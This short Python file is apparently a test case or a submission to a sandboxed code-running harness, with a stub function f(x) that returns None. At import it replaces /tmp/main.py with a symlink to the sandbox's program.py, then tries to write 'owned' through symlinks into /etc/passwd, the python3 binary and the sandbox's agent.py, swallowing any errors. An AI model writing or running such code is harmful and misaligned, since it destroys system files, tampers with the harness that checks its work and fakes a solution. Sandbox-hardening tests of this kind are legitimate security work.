# why: write through a symbolic link
import os
os.remove("/tmp/main.py")
os.symlink("/opt/sandbox/sandbox/program.py", "/tmp/main.py")
for target in ("/etc/passwd", "/usr/local/bin/python3", "/opt/sandbox/sandbox/agent.py"):
    try:
        os.symlink(target, "/tmp/link")
        with open("/tmp/link", "w") as file:
            file.write("owned")
    except OSError:
        pass
    os.path.lexists("/tmp/link") and os.remove("/tmp/link")
def f(x):
    return None
